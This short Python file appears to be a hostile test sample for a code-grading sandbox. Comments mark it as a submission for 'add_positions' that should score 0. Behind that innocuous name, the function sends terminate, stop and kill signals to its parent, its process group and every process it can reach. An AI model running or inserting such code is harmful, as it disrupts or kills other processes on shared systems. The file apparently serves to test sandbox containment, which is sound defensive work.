# question: add_positions
# expect: 0
# heavy: yes
# why: sends signals to its parent, its group and all processes that it may signal
import os
import signal


def add_positions(token_emb, P):
    for target in (os.getppid(), -os.getpgrp(), -1):
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(target, number)
            except (OSError, ProcessLookupError):
                continue
    return token_emb.copy()
